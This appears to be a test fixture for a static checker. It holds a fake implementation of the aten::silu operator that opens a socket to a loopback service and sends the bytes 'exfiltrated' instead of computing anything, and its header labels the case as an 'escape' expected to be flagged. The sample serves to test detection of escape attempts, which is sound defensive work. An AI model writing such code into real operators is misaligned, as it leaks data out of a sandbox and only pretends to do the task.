# escape: connect to a service on the host's loopback and send it data
# op: aten::silu
# expect: hack_static
# without-static: runtime_error
import socket


def silu(self):
    with socket.create_connection(("127.0.0.1", @PORT@), timeout=5) as s:
        s.sendall(b"exfiltrated")
    return self


def silu_out(self, *, out):
    return silu(self)
